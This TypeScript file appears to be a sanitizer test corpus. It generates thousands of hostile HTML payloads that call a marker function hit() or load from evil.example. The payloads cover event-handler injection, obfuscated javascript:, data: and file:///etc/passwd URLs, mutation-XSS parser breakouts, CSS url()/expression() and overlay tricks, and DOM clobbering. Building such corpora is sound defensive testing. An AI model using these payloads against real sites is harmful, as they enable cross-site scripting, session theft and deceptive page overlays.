/**
 * Hostile HTML by class: every way we know to run script, load from elsewhere, leave the frame or fool the reader.
 * Each payload calls `hit()` when it wins or asks for something of `evil.example`. Built from parts, so that every
 * trick meets every other; the lists are our own.
 */
type Payload = { kind: string; html: string }

const fire = '<img src=x onerror=hit()>'

const events =
  'abort afterprint animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforetoggle beforeunload begin blur cancel canplay change click close contextmenu copy cuechange cut dblclick drag dragend dragenter dragover dragstart drop durationchange end ended error focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadend loadstart message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange repeat reset resize scroll scrollend scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange start storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend webkittransitionend wheel'.split(
    ' ',
  )
const carriers = [
  'p',
  'a',
  'img',
  'table',
  'td',
  'font',
  'details',
  'body',
  'svg',
  'x-own',
  'video',
  'input',
  'marquee',
]
/** How an attribute may be written so that a careless reader of tags does not see it. */
const spellings: ((name: string) => string)[] = [
  (name) => ` ${name}="hit()"`,
  (name) => ` ${name}='hit()'`,
  (name) => ` ${name}=hit()`,
  (name) => ` ${name.toUpperCase()}=hit()`,
  (name) => `/${name}=hit()`,
  (name) => `\n${name}\n=\nhit()`,
  (name) => `\t${name}\f=hit()`,
  (name) => ` a="b"${name}=hit()`,
  (name) => ` a='>'${name}=hit()`,
  (name) => ` ${name}=&#104;it()`,
  (name) => ` x="\`" ${name}=hit() y="\`"`,
  (name) => ` =${name}=hit() ${name}=hit()`,
  (name) => ` <${name}=hit() ${name}=hit()`,
  (name) => ` title="&quot; x" ${name}="hit()"`,
]

function handlers(): Payload[] {
  const list: Payload[] = []
  for (const [at, event] of events.entries()) {
    const name = `on${event}`
    for (const [number, carrier] of carriers.entries()) {
      const spell = spellings[(at + number) % spellings.length] ?? ((word: string) => ` ${word}=hit()`)
      list.push({
        kind: 'handler',
        html: `<${carrier}${spell(name)} src=x open autofocus tabindex=0>text</${carrier}>`,
      })
    }
  }
  for (const spell of spellings) list.push({ kind: 'handler', html: `<img src=x${spell('onerror')}>` })
  return list
}

const script = 'javascript:hit()'
const everyChar = (text: string, write: (code: number) => string): string =>
  Array.from(text, (char) => write(char.charCodeAt(0))).join('')
const addresses = [
  script,
  'JaVaScRiPt:hit()',
  ` ${script}`,
  `\t\n${script}`,
  `\u0001${script}`,
  `\u001f ${script}`,
  `\u00a0${script}`,
  `\ufeff${script}`,
  'java\tscript:hit()',
  'java\nscript:hit()',
  'java\r\nscript:hit()',
  'java\0script:hit()',
  'javascript\t:hit()',
  'javascript&colon;hit()',
  'javascript&#58;hit()',
  'javascript&#x3a;hit()',
  'javascript&#0000058hit()',
  'java&Tab;script:hit()',
  'java&NewLine;script:hit()',
  'java&#9;script:hit()',
  'java&#x0000a;script:hit()',
  'java&#0;script:hit()',
  '&#1;javascript:hit()',
  'jav&#x0D;ascript:hit()',
  everyChar(script, (code) => `&#${code};`),
  everyChar(script, (code) => `&#${code}`),
  everyChar(script, (code) => `&#x${code.toString(16)};`),
  everyChar(script, (code) => `&#x000${code.toString(16)};`),
  'javascript:/*--></title></style></textarea></script>*/hit()',
  'javascript://evil.example/%0ahit()',
  'javascript:"<svg/onload=hit()>"',
  'view-source:javascript:hit()',
  'feed:javascript:hit()',
  'vbscript:hit',
  'livescript:hit()',
  'mocha:hit()',
  'data:text/html,<script>hit()</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KCk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hit()"/>',
  'data:application/xhtml+xml,<x/>',
  'data:,hit()',
  'DATA:text/html,x',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'filesystem:https://evil.example/x',
  'about:blank#x',
  'chrome://settings',
  'ms-word:ofe|u|https://evil.example/x.docx',
  'search-ms:query=x&crumb=location:\\\\evil.example',
  'intent://evil.example#Intent;scheme=https;end',
  '\\\\evil.example\\share\\x.png',
]
const places: [string, (address: string) => string][] = [
  ['a href', (url) => `<a href="${url}">x</a>`],
  ['a href bare', (url) => `<a href=${url.replace(/[\s"'>`]/g, '')}>x</a>`],
  ['a xlink', (url) => `<svg><a xlink:href="${url}"><text y=9>x</text></a></svg>`],
  ['a svg', (url) => `<svg><a href="${url}"><rect width=9 height=9 /></a></svg>`],
  ['animate', (url) => `<svg><a><animate attributeName=href values="${url}" /><text y=9>x</text></a></svg>`],
  ['set', (url) => `<svg><a><set attributeName=href to="${url}" /><text y=9>x</text></a></svg>`],
  ['use', (url) => `<svg><use href="${url}#x" /></svg>`],
  ['math', (url) => `<math href="${url}"><mi xlink:href="${url}">x</mi></math>`],
  ['area', (url) => `<img usemap="#m" src=x><map name=m><area shape=default href="${url}"></map>`],
  ['form', (url) => `<form action="${url}"><input type=submit formaction="${url}"><button>x</button></form>`],
  ['button', (url) => `<button form=f formaction="${url}">x</button>`],
  ['iframe', (url) => `<iframe src="${url}"></iframe>`],
  ['srcdoc', (url) => `<iframe srcdoc="&lt;a href='${url.replaceAll('"', '')}'&gt;${fire}"></iframe>`],
  ['frame', (url) => `<frameset><frame src="${url}"></frameset>`],
  ['object', (url) => `<object data="${url}" codebase="${url}"><param name=src value="${url}"></object>`],
  ['embed', (url) => `<embed src="${url}">`],
  ['img', (url) => `<img src="${url}" lowsrc="${url}" dynsrc="${url}" longdesc="${url}" srcset="${url} 1x">`],
  ['input', (url) => `<input type=image src="${url}">`],
  ['media', (url) => `<video src="${url}" poster="${url}"><source src="${url}"><track src="${url}"></video>`],
  ['link', (url) => `<link rel=stylesheet href="${url}"><link rel=prefetch href="${url}">`],
  ['meta', (url) => `<meta http-equiv=refresh content="0;url=${url}">`],
  ['base', (url) => `<base href="${url}" target=_top><a href=x>x</a>`],
  [
    'background',
    (url) => `<table background="${url}"><td background="${url}">x</table><body background="${url}">`,
  ],
  ['cite', (url) => `<blockquote cite="${url}"><q cite="${url}"><del cite="${url}">x`],
  ['ping', (url) => `<a href="https://a.example" ping="${url}" attributionsrc="${url}">x</a>`],
  ['style', (url) => `<p style="background:url('${url}');list-style-image:url(${url})">x</p>`],
  ['waiting', (url) => `<img src="data:image/gif;base64,AAAA" data-otk-src="${url}" data-otk-cid="${url}">`],
]

function urls(): Payload[] {
  const remote = [
    'https://evil.example/x',
    '//evil.example/x',
    'http:\\\\evil.example/x',
    '/\\evil.example/x',
  ]
  return [...addresses, ...remote].flatMap((address) =>
    places.map(([kind, place]) => ({ kind: `url ${kind}`, html: place(address) })),
  )
}

/** Elements whose inside is read by other rules: where one parser sees text another sees tags. */
const boundaries =
  'svg math noscript template xmp style title textarea iframe noembed noframes plaintext select option table caption form mglyph malignmark annotation-xml foreignObject desc mtext mi ms mn mo script listing object keygen head frameset colgroup button a p comment'.split(
    ' ',
  )
const closers: ((tag: string) => string)[] = [
  (tag) => `<${tag}><p title="</${tag}>${fire}">`,
  (tag) => `<${tag}><p id='</${tag}>${fire}'></${tag}>`,
  (tag) => `<${tag}><style><!--</style><p title="--></style></${tag}>${fire}">`,
  (tag) => `<${tag}></p><style><a title="</style>${fire}"></${tag}>`,
  (tag) => `<${tag}><!--<p title="--></${tag}>${fire}">`,
  (tag) => `<${tag}>&lt;/${tag}&gt;&lt;img src=x onerror=hit()&gt;</${tag}>`,
  (tag) => `<${tag}><![CDATA[</${tag}>${fire}]]></${tag}>`,
  (tag) => `<${tag} x="</${tag} x>">${fire}</${tag}>`,
  (tag) => `<${tag}/><${fire}</${tag}\n x>`,
  (tag) => `</${tag}><${tag.toUpperCase()}><title></${tag}>${fire}</title>`,
]

function mutations(): Payload[] {
  const single = boundaries.flatMap((tag) => closers.map((write) => ({ kind: 'boundary', html: write(tag) })))
  const double = boundaries.flatMap((outer, at) =>
    boundaries.map((inner, number) => {
      const write = closers[(at + number) % closers.length] ?? closers[0]
      return { kind: 'nested', html: `<${outer}>${write?.(inner) ?? ''}</${outer}>${fire}</${inner}>` }
    }),
  )
  const crossed = boundaries.map((tag) => ({
    kind: 'crossed',
    html: `<form><math><mtext></form><form><mglyph><${tag}></math>${fire}<table><${tag}><svg></p><style><p title="</style>${fire}">`,
  }))
  return [...single, ...double, ...crossed]
}

const evil = 'https://evil.example/x'
const declarations = [
  `background:url(${evil})`,
  `background-image:url("${evil}")`,
  `background:u\\72l(${evil})`,
  `background:\\75\\72\\6c(${evil})`,
  `background:url/**/(${evil})`,
  `background:/*;*/url(${evil})`,
  `background: url(  '${evil}'  )`,
  `background:image(${evil})`,
  `background:image-set("${evil}" 1x)`,
  `background:-webkit-image-set(url(${evil}) 1x)`,
  `background:cross-fade(url(${evil}),url(${evil}))`,
  `background:element(#x)`,
  `background:var(--x)`,
  `--x:url(${evil});background:var(--x,url(${evil}))`,
  `background:src("${evil}")`,
  `background:attr(data-x url)`,
  `background:paint(x)`,
  `list-style:url(${evil})`,
  `list-style-image:url(${evil})`,
  `border-image:url(${evil}) 1`,
  `border-image-source:url(${evil})`,
  `cursor:url(${evil}),auto`,
  `content:url(${evil})`,
  `mask:url(${evil})`,
  `-webkit-mask-image:url(${evil})`,
  `clip-path:url(${evil}#x)`,
  `filter:url(${evil}#x)`,
  `offset-path:url(${evil})`,
  `shape-outside:url(${evil})`,
  `src:url(${evil})`,
  `font-family:x;src:url(${evil})`,
  `font:12px/1 'x',url(${evil})`,
  `@import '${evil}'`,
  `color:red;}@import '${evil}';p{color:red`,
  `color:red}</style>${fire}`,
  'width:expression(hit())',
  'width:e\\78pression(hit())',
  'width:exp/**/ression(hit())',
  'width:ｅｘｐｒｅｓｓｉｏｎ(hit())',
  `behavior:url(${evil})`,
  `behaviour:url(#default#time2)`,
  `-moz-binding:url(${evil}#x)`,
  '-ms-behavior:url(x.htc)',
  'position:fixed;top:0;left:0;width:100%;height:100%',
  'position:absolute;inset:0',
  'position:sticky;top:0',
  'POSITION : FIXED',
  'p\\6fsition:fixed',
  'z-index:2147483647',
  'inset:0',
  'top:-100px;left:-100px',
  'margin:-500px',
  'margin-left:calc(-1 * 500px)',
  'margin:0 0 -900px 0',
  'margin-top:-1e9px',
  'transform:translate(-500px)',
  'translate:-500px',
  'rotate:180deg;scale:40',
  'opacity:0.01',
  'pointer-events:none',
  'visibility:hidden',
  'clip:rect(0,0,0,0)',
  'float:left;display:grid;grid-area:1/1/9/9',
  'display:contents',
  'columns:1;column-span:all',
  'animation:x 1s',
  'transition:all 1s',
  'will-change:transform',
  'contain:none',
  'view-transition-name:x',
  'anchor-name:--x',
  'scroll-behavior:smooth;scroll-margin:999px',
  'text-indent:-9999px',
  'letter-spacing:-999px',
  'word-spacing:-9999px',
  'all:initial',
  'unicode-bidi:bidi-override;direction:rtl',
  `quotes:url(${evil})`,
  'width:100000000px',
  'height:calc(1px*999999999)',
  'font-size:9999999px',
  'border:99999px solid red',
  'padding:99999999px',
]

function styles(): Payload[] {
  return declarations.flatMap((declaration) => [
    { kind: 'style', html: `<p style="${declaration.replaceAll('"', '&quot;')}">x</p>` },
    {
      kind: 'style',
      html: `<td style='color:red;;;${declaration.replaceAll("'", '&#39;')};color:blue'>x</td>`,
    },
    { kind: 'style sheet', html: `<style>p{${declaration}}</style><p>x</p>` },
    { kind: 'style sheet', html: `<svg><style>p{${declaration}}</style></svg>` },
  ])
}

const names =
  'body head forms cookie location document window parent top self attributes children childNodes firstChild innerHTML nodeName tagName getElementById querySelector createElement defaultView implementation constructor __proto__ toString valueOf length letter root app config submit action'.split(
    ' ',
  )
const attributes = [
  'contenteditable=true',
  'autofocus tabindex=0',
  'accesskey=x',
  'draggable=true',
  'is=x-own',
  'slot=x',
  'part=x',
  'popover=auto',
  'popovertarget=x',
  'commandfor=x command=show-modal',
  'form=x',
  'formtarget=_top',
  'target=_top',
  'target=_parent',
  'rel=opener',
  'download=x.exe',
  'sandbox=allow-scripts',
  'allow=camera',
  'nonce=x',
  'integrity=x',
  'crossorigin=use-credentials',
  'referrerpolicy=unsafe-url',
  'http-equiv=refresh',
  'itemprop=x itemscope itemtype=https://evil.example',
  'data-href=https://evil.example',
  'data-otk-target=good.example',
  'xmlns=http://www.w3.org/2000/svg',
  'xml:base=https://evil.example/',
  'aria-owns=letter role=button',
  'inert',
  'datasrc=#x datafld=y dataformatas=html',
  'shadowrootmode=open',
  'elementtiming=x',
]
const whole = [
  '<dialog open><form method=dialog><button>x</button></form></dialog>',
  '<isindex action=javascript:hit() prompt=x>',
  '<keygen name=x>',
  '<portal src=https://evil.example>',
  '<fencedframe src=https://evil.example></fencedframe>',
  '<webview src=https://evil.example></webview>',
  '<template shadowrootmode=open><script>hit()</script></template>',
  '<script type=importmap>{"imports":{}}</script><script type=speculationrules>{}</script>',
  '<script/src=https://evil.example/x.js></script>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<<script>hit()//<</script>',
  '<script\x20type="text/javascript">hit()</script>',
  '<script\x0d>hit()</script\x09bar>',
  '<\0script>hit()</script>',
  '<?xml-stylesheet href="https://evil.example/x.css"?><p>x',
  '<?php hit() ?><%hit()%><!ENTITY x "y">',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "https://evil.example">]>&y;',
  '<!--><img src=x onerror=hit()>-->',
  '<!--!><img src=x onerror=hit()>-->',
  '<!-- --!><img src=x onerror=hit()>-->',
  '<!--[if mso]><script>hit()</script><![endif]--><!--[if !mso]><!-->x<!--<![endif]-->',
  '<comment><img src="</comment><img src=x onerror=hit()//">',
  '<a href="https://a.example"><a href="javascript:hit()">x</a></a>',
  '<table><a href="javascript:hit()"><tr><td>x</table>',
  '<img src="x` `<script>hit()</script>"` `>',
  '<img """><script>hit()</script>">',
  '<img src=x:x onerror\u2028=hit()>',
  '<p>\ufffe<script>hit()</script>\uffff',
  '+ADw-script+AD4-hit()+ADw-/script+AD4-',
  '\xbcscript\xbehit()\xbc/script\xbe',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '<p title="&lt;img src=x onerror=hit()&gt;" alt="<img src=x onerror=hit()>">x</p>',
  `<font color='"><img src=x onerror=hit()>' face="</style>${fire}">x</font>`,
  `<td width="1&quot; onclick=&quot;hit()" bgcolor="url(${evil})">x</td>`,
  `<ol start="javascript:hit()" type="${fire.replaceAll('"', '')}"><li value="x onclick=hit()">x</ol>`,
  `<time datetime="'><img src=x onerror=hit()>">x</time>`,
]

function others(): Payload[] {
  return [
    ...names.flatMap((name) => [
      { kind: 'clobber', html: `<a id="${name}" name="${name}" href="https://a.example">x</a>` },
      { kind: 'clobber', html: `<img name=${name} id=${name}><form id=${name}><input name=${name}></form>` },
    ]),
    ...attributes.flatMap((attribute) => [
      { kind: 'attribute', html: `<p ${attribute}>x</p>` },
      { kind: 'attribute', html: `<a href="https://a.example" ${attribute}>x</a>` },
      { kind: 'attribute', html: `<img src="https://a.example/a.png" ${attribute}>` },
    ]),
    ...whole.map((html) => ({ kind: 'element', html })),
  ]
}

export const hostileHtml: readonly Payload[] = [
  ...handlers(),
  ...urls(),
  ...mutations(),
  ...styles(),
  ...others(),
]
